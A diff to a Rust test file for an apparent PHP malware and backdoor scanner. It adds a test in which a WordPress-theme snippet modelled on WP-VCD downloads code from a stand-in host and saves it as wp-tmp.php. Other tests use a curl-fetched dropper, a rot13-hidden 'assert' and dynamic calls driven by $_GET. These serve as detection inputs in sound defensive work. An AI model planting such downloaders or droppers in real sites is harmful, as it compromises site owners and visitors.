@@ -174,11 +174,11 @@ fn glue_functions_fetched_matches_and_hidden_names_as_values() {
     // A helper that works on its parameter before returning it is not a glue (its value is
     // not known).
     assert!(sinks("<?php function p($s) { $r = trim($s); return $r; } $f = p('sys'); echo $f;").is_empty());
-    // Code fetched, cut out by a pattern, and written after a PHP open tag.
+    // Code fetched, cut out by a pattern, and written after a PHP open tag: downloaded code.
     assert!(sinks(
         "<?php $r = curl_exec($ch); preg_match('#<c>(.*)</c>#s', $r, $m); $h = fopen($n, 'w'); fwrite($h, \"<?php\\n$m[1]\");"
     )
-    .contains(&(Why::UploadDropper, Danger::High)));
+    .contains(&(Why::CodeFromInternet, Danger::High)));
     // A decoded dangerous name is a finding wherever it goes (here, a method's callback).
     assert!(
         sinks("<?php $rows = $q->fetchAll(PDO::FETCH_FUNC, str_rot13('nffreg'));")
@@ -475,6 +475,20 @@ fn an_applications_includes_and_dispatchers_are_risks_not_backdoors() {
     let any = "<?php call_user_func_array(array($_GET['c'], $_GET['m']), $_GET['a']);";
     assert_eq!(sinks(any), [(Why::DynamicCallFromInput, Danger::Critical)]);
     assert_eq!(sinks("<?php call_user_func($_GET['f'], $_GET['a']);"), [(Why::DynamicCallFromInput, Danger::Critical)]);
+}
+
+#[test]
+fn another_sites_text_saved_as_a_php_file_is_downloaded_code_whatever_the_file_checks() {
+    // WP-VCD's header in a theme's functions.php: code.php fetched and saved as wp-tmp.php.
+    // The theme checks its users elsewhere (`current_user_can`), which makes an upload handler
+    // the application's, not this.
+    let vcd = "<?php if ($c = @file_get_contents('http://www.vcd-host.example/code.php')) { \
+               @file_put_contents(ABSPATH . 'wp-includes/wp-tmp.php', $c); } \
+               function theme_opts() { if (!current_user_can('manage_options')) return; }";
+    assert_eq!(sinks(vcd), [(Why::CodeFromInternet, Danger::High)]);
+    // A page or a feed fetched and cached as data is not code.
+    let cache = "<?php $f = file_get_contents('https://feeds.example/news.xml'); file_put_contents(__DIR__ . '/cache/news.xml', $f);";
+    assert!(sinks(cache).is_empty(), "{:?}", sinks(cache));
 }
 
 #[test]
